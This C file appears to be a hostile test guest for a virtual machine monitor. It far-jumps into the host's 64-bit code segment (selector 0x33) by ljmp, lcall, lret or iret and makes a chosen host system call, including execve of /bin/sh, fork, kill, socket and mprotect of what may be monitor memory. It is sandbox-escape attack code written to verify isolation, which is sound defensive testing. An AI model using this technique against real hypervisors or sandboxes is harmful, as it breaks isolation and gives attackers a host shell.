/*
 * code64.h - far-branches to the host's 64-bit code segment (selector 0x33) and makes a host system call: the guest of
 * code64.c and code64-user.c, which say where from: CODE64_SECTION, CODE64_BRANCH, CODE64_ATTACK.
 */
#include "hostile.h"

/*
 * 64-bit code, reached by a far branch to the selector that is the host's 64-bit user code segment; there it makes one
 * host system call, `nr=N`, with arguments that would do harm, and then an undefined instruction. Where guests have a GDT
 * of their own the branch faults, and none of it runs. `by=` chooses the branch.
 */
__asm__(CODE64_SECTION "; .globl code64_entry; code64_entry: .code64;"
	"mov $code64_args, %ebp; mov (%rbp), %eax; mov 4(%rbp), %edi; mov 8(%rbp), %esi; mov 12(%rbp), %edx; mov 16(%rbp), %r10d;"
	"xor %r8d, %r8d; xor %r9d, %r9d; syscall; ud2; .code32; .text");
uint32_t code64_args[5] USER_DATA;
static char text[] USER_DATA = "escaped\n", name[] USER_DATA = "escaped", shell[] USER_DATA = "/bin/sh";

CODE64_BRANCH(by_ljmp, "ljmp $0x33, $code64_entry")
CODE64_BRANCH(by_lcall, "lcall $0x33, $code64_entry")
CODE64_BRANCH(by_lret, "push $0x33; push $code64_entry; lret")
CODE64_BRANCH(by_iret, "pushf; push $0x33; push $code64_entry; iret")

/* Linux x86-64 system call numbers, each with arguments of its own. */
static const struct {
	uint32_t nr, arg[4];
} calls[] = {
	{ 1, { 1, (uint32_t)text, 8 } },                                  /* write */
	{ 2, { (uint32_t)name, 0x41, 0x1ff } },                           /* open, to create */
	{ 9, { 0xf6900000, 0x1000, 7, 0x32 } },                           /* mmap, anonymous and fixed */
	{ 10, { 0xf6800000, 0x1000, 7 } },                                /* mprotect of what may be the VMM's */
	{ 11, { 0xf6800000, 0x1000 } },                                   /* munmap */
	{ 15, { 0 } },                                                    /* rt_sigreturn */
	{ 39, { 0 } },                                                    /* getpid */
	{ 41, { 2, 1, 0 } },                                              /* socket */
	{ 57, { 0 } },                                                    /* fork */
	{ 59, { (uint32_t)shell, 0, 0 } },                                /* execve */
	{ 62, { 1, 9 } },                                                 /* kill */
	{ 154, { 1, 0, 0 } },                                             /* modify_ldt */
	{ 157, { 22, 0, 0 } },                                            /* prctl */
	{ 231, { 0 } },                                                   /* exit_group(0): to end as if all were well */
};

int guest_main(void)
{
	static const struct {
		const char *name;
		void (*fn)(uint32_t arg);
	} ways[] = { { "ljmp", by_ljmp }, { "lcall", by_lcall }, { "lret", by_lret }, { "iret", by_iret } };
	char by[8] = "ljmp";
	uint32_t nr = hal_number("nr", 39);
	hal_word("by", by, sizeof by);
	code64_args[0] = nr;
	for (unsigned i = 0; i < ARRAY_LEN(calls); i++)
		if (calls[i].nr == nr)
			memcpy(code64_args + 1, calls[i].arg, sizeof calls[i].arg);
	for (unsigned i = 0; i < ARRAY_LEN(ways); i++)
		if (!strcmp(ways[i].name, by))
			CODE64_ATTACK(ways[i].name, ways[i].fn, 0);
	return hostile_end();
}
